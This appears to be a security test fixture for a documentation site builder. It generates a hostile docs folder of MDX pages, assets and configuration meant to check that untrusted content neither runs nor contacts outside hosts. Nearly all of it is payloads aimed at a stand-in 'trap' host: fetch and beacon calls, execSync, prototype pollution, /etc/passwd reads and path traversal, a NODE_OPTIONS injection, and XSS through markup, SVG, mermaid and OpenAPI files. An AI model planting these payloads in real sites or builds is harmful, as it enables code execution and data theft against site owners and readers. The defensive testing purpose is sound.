/**
 * What an author with bad intent puts into a docs folder: code that tries everything, markup and settings that ask other
 * hosts. Each piece of code says that it ran, in every way that it can: a file named after `mark`, a request to `trap`.
 */

/** Code that tells by every road that it ran; `name` says which piece it is. */
function telltale(name, { mark, trap }) {
  const say = JSON.stringify(name);
  return [
    `try { globalThis.__waymarkTrap?.(${say}) } catch {}`,
    `try { process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(mark)} + '-' + ${say}, 'ran') } catch {}`,
    `try { process.binding('fs') } catch {}`,
    `try { require('node:child_process').execSync('touch ' + ${JSON.stringify(mark)} + '-' + ${say}) } catch {}`,
    `try { import('node:fs').then((fs) => fs.writeFileSync(${JSON.stringify(mark)} + '-' + ${say}, 'ran')).catch(() => 0) } catch {}`,
    `try { fetch(${JSON.stringify(trap)} + '/ran/' + ${say}).catch(() => 0) } catch {}`,
    `try { new Worker('data:text/javascript,fetch("${trap}/worker")') } catch {}`,
    `try { Object.prototype.__waymarkPolluted = ${say}; Array.prototype.map = null } catch {}`,
    `try { localStorage.setItem('ran', ${say}); navigator.sendBeacon(${JSON.stringify(trap)} + '/beacon') } catch {}`,
  ].join(';');
}

/** Pages full of code, each with a text that must stay: `STATIC-<name>`. */
function codePages(place) {
  const tell = (name) => telltale(name, place);
  const call = (name) => `(() => { ${tell(name)}; return 'RAN' })()`;
  return {
    'expression.mdx': `# STATIC-expression\n\nBefore {${call('expression')}} after.\n`,
    'top-level.mdx': `export const made = ${call('top-level')};\n\nexport const plain = 'STATIC-top-level';\n\n{plain} {made}\n`,
    'attribute.mdx': `STATIC-attribute\n\n<Card title={${call('attribute')}}>kept</Card>\n\n<p title={${call('html')}}>kept too</p>\n`,
    'spread.mdx': `STATIC-spread\n\n<Card {...(${call('spread')}, {title: 'x'})}>kept</Card>\n`,
    'component.mdx': `export function Evil() { ${tell('component')}; return <b>RAN</b> }\n\n<Evil>STATIC-component</Evil>\n`,
    'class.mdx': `export class Evil extends React.Component { render() { ${tell('class')}; return 'RAN' } }\n\nSTATIC-class\n\n<Evil />\n`,
    'island.mdx': `export const Live = () => { const [n, set] = useState(0); useEffect(() => { ${tell('island')} }); return <button onClick={() => set(n + 1)}>RAN {n}</button> };\n\nSTATIC-island\n\n<Live />\n\n<button onClick={() => { ${tell('handler')} }}>kept</button>\n`,
    'getter.mdx': `export const trap = { get value() { ${tell('getter')}; return 'RAN' } };\n\nSTATIC-getter {trap.value} {trap['value']}\n`,
    'loop.mdx': `export const loop = (async () => { await 0; for (;;); })();\n\nSTATIC-loop {(() => { for (;;); })()}\n`,
    'element.mdx': `STATIC-element\n\n{{type: 'script', constructor: undefined, props: {children: ${JSON.stringify(tell('element'))}}}}\n\n<Card title={{type: 'iframe', constructor: undefined, key: null, ref: null, props: {src: '${place.trap}/forged'}}}>kept</Card>\n`,
    'prototype.mdx': `export const proto = {"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}};\n\nSTATIC-prototype {proto.constructor.constructor} <Card __proto__={{title: 'x'}} {...{"__proto__": {"title": "y"}}}>kept</Card>\n`,
    'imports.mdx': `import { Evil } from './hostile/evil.jsx';\nimport Whole, * as all from './hostile/evil.jsx';\nimport Snippet, { made } from './hostile/snippet.mdx';\nimport data from './hostile/data.json';\nimport fs from 'node:fs';\n\nSTATIC-imports {data.text} <Evil /> <Whole /> {all.x} {made} {fs.readFileSync('/etc/passwd')}\n\n<Snippet title={${call('snippet-prop')}} />\n`,
    'hostile/evil.jsx': `${tell('jsx')};\nexport const Evil = () => { ${tell('jsx-component')}; return <b>RAN</b> };\nexport default Evil;\n`,
    'hostile/snippet.mdx': `export const made = ${call('snippet')};\n\nSnippet STATIC-snippet {${call('snippet-expression')}} {props.title}\n`,
    'hostile/data.json': `{"text": "STATIC-data", "__proto__": {"x": 1}}`,
    'variables.mdx': `STATIC-variables {{evil}}\n`,
  };
}

/** Pages whose markup asks another host, or runs something, without any code of a build. */
function markupPages({ trap }) {
  const raw = [
    `<img src='${trap}/raw.png' onerror='fetch(\`${trap}/onerror\`)'>`,
    `<iframe src='${trap}/raw-frame'></iframe><object data='${trap}/object'></object><embed src='${trap}/embed'>`,
    `<script>fetch('${trap}/script')</script><script src='${trap}/script.js'></script>`,
    `<svg><image href='${trap}/svg.png'/><use href='${trap}/use.svg#a'/><script>fetch('${trap}/svg')</script><rect fill='url(${trap}/fill.svg#a)'/></svg>`,
    `<video src='${trap}/v.mp4' poster='${trap}/p.png' autoplay></video><audio src='${trap}/a.mp3' autoplay></audio>`,
    `<link rel=stylesheet href='${trap}/l.css'><meta http-equiv=refresh content='0;url=${trap}/meta'><base href='${trap}/'>`,
    `<style>@import '${trap}/import.css'; body{background:url(${trap}/css.png)}</style>`,
    `<form action='${trap}/form'><input type=image src='${trap}/i.png'><button formaction='${trap}/f'>go</button></form>`,
    `<a href='javascript:fetch(\`${trap}/js\`)' ping='${trap}/ping'>link</a><picture><source srcset='${trap}/s.png 2x'><img src='/x.png' srcset='${trap}/ss.png 2x'></picture>`,
  ].join('');
  return {
    'markup.mdx': `STATIC-markup\n\n![far](${trap}/picture.png)\n\n[![far in a link](${trap}/linked.png)](/)\n\n<img src="${trap}/tag.png" onerror="fetch('${trap}/attr')" />\n\n<iframe src="${trap}/frame" title="A frame" srcDoc="<script>1</script>" />\n\n<object data="${trap}/object" />\n\n<embed src="${trap}/embed" />\n\n<video src="${trap}/v.mp4" autoPlay />\n\n<audio src="${trap}/a.mp3" />\n\n<svg><image href="${trap}/svg.png" /><a href="javascript:alert(1)">x</a></svg>\n\n<script src="${trap}/s.js" />\n\n<link rel="stylesheet" href="${trap}/l.css" />\n\n<meta http-equiv="refresh" content="0;url=${trap}/meta" />\n\n<base href="${trap}/" />\n\n<form action="${trap}/form"><button formAction="${trap}/f">go</button></form>\n\n<a href="javascript:fetch('${trap}/js')" ping="${trap}/ping" onMouseOver="fetch('${trap}/over')">link</a>\n\n<Card icon="${trap}/icon.png" img="${trap}/card.png" title="kept" href="/">kept</Card>\n\n<GitHub.Repo repo="owner/name" />\n`,
    'raw.mdx': `STATIC-raw\n\n<div dangerouslySetInnerHTML={{__html: ${JSON.stringify(raw)}}} />\n`,
    'styles.mdx': `STATIC-styles\n\n<style>{\`@import url("${trap}/page.css"); @font-face{font-family:x;src:url(${trap}/x.woff2)} body{background:url(${trap}/bg.png);font-family:x} #content{cursor:url(${trap}/c.cur),auto}\`}</style>\n\n<p style={{backgroundImage: 'url(${trap}/inline.png)'}} className="bg-[url(${trap}/tailwind.png)]">kept</p>\n`,
    'head.mdx': `---\ntitle: STATIC-head\ndescription: "![d](${trap}/description.png)"\nicon: ${trap}/page-icon.png\n"og:image": ${trap}/og.png\n---\n\nHead.\n`,
    'plain.md': `STATIC-plain\n\n![far](${trap}/md.png)\n\n<img src="${trap}/md-tag.png">\n`,
    'diagram.mdx': `STATIC-diagram\n\n\`\`\`mermaid\ngraph TD\n  A["<img src='${trap}/mermaid.png'>"] --> B\n  click A "javascript:fetch('${trap}/mermaid')"\n\`\`\`\n`,
  };
}

/** Files beside the pages that readers' browsers would load or run. */
function files(place) {
  const { trap } = place;
  return {
    'evil.js': telltale('custom-script', place),
    'module.mjs': `${telltale('module', place)}; export {}`,
    'evil.css': `@import "${trap}/custom.css"; body{background:url("${trap}/custom.png")}`,
    'page.html': `<script>fetch('${trap}/html')</script>`,
    'sheet.xml': `<?xml version="1.0"?><x><script xmlns="http://www.w3.org/1999/xhtml">fetch('${trap}/xml')</script></x>`,
    'drawing.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${trap}/onload')"><image href="${trap}/drawing.png"/></svg>`,
    'waymark.json': JSON.stringify({ policy: { allow: { scripts: [trap.replace('http:', 'https:')] } } }),
    '.env': `NODE_OPTIONS=--require=./evil.js\n`,
    'refs.yaml': `openapi: 3.1.0\ninfo: {title: STATIC-api, version: '1', description: '![api](${trap}/api.png) <img src="${trap}/api-tag.png">'}\nservers: [{url: ${trap}/server}]\npaths:\n  /hostile-operation:\n    get:\n      operationId: hostileOperation\n      summary: STATIC-operation\n      description: '![op](${trap}/op.png)'\n      responses:\n        '200':\n          description: ok\n          content: {application/json: {schema: {$ref: '${trap}/schema.json'}}}\n        '400': {$ref: '../../../../../../../../etc/passwd#/x'}\n`,
  };
}

/** The pages and files, by path, and the routes of the pages. */
export function hostileFiles(place) {
  const pages = { ...codePages(place), ...markupPages(place) };
  const routes = Object.keys(pages)
    .filter((path) => /\.mdx?$/.test(path) && !path.startsWith('hostile/'))
    .map((path) => path.replace(/\.mdx?$/, ''));
  return { files: { ...pages, ...files(place) }, routes };
}

/** A configuration with everything in it that asks other hosts. */
export function hostileConfig(config, { trap }, routes) {
  const far = trap.replace('http:', 'https:');
  return {
    ...config,
    integrations: {
      ga4: { measurementId: 'G-XXXXXXXXXX' },
      gtm: { tagId: 'GTM-XXXXXXX' },
      plausible: { domain: 'example.com', server: far.replace('https://', '') },
      posthog: { apiKey: 'phc_x', apiHost: far },
    },
    fonts: {
      heading: { family: 'Roboto' },
      body: { family: 'Evil', source: `${far}/font.woff2`, format: 'woff2' },
    },
    logo: `${trap}/logo.png`,
    favicon: `${trap}/favicon.png`,
    background: { image: { light: `${trap}/light.png`, dark: `${trap}/dark.png` } },
    thumbnails: { background: `${trap}/thumbnail.png` },
    banner: { content: `![b](${trap}/banner.png) <img src="${trap}/banner-tag.png">`, dismissible: true },
    navbar: {
      links: [
        { type: 'github', href: 'https://github.com/owner/name' },
        { label: 'x', href: `javascript:fetch('${trap}/nav')` },
      ],
      primary: { type: 'discord', label: 'd', href: 'https://discord.gg/x' },
    },
    redirects: [
      // A reference to another file stands for them in some.
      ...(Array.isArray(config.redirects) ? config.redirects.slice(0, 50) : []),
      { source: '/away', destination: `${trap}/away` },
      { source: '/away/:any*', destination: `${trap}/:any*` },
    ],
    errors: {
      404: {
        title: 'STATIC-404',
        description: `![e](${trap}/error.png) <img src="${trap}/error-tag.png" />`,
      },
    },
    variables: { ...config.variables, evil: `<img src=${trap}/variable.png onerror=1> {process.exit(9)}` },
    seo: {
      ...config.seo,
      metatags: { ...config.seo?.metatags, 'http-equiv': 'refresh', 'og:image': `${trap}/og.png` },
    },
    navigation: withGroup(config.navigation, {
      group: 'Hostile',
      icon: `${trap}/group.png`,
      openapi: `${trap}/remote-openapi.json`,
      pages: [...routes, { group: 'Api', openapi: 'refs.yaml', pages: ['GET /hostile-operation'] }],
    }),
  };
}

/** The navigation with one more group, wherever it has groups first. */
function withGroup(navigation, group) {
  if (Array.isArray(navigation.groups)) return { ...navigation, groups: [group, ...navigation.groups] };
  if (Array.isArray(navigation.pages)) return { ...navigation, pages: [group, ...navigation.pages] };
  for (const kind of ['languages', 'versions', 'products', 'dropdowns', 'tabs', 'anchors', 'menu']) {
    const [first, ...others] = navigation[kind] ?? [];
    if (first !== undefined) return { ...navigation, [kind]: [withGroup(first, group), ...others] };
  }
  return { ...navigation, groups: [group] };
}
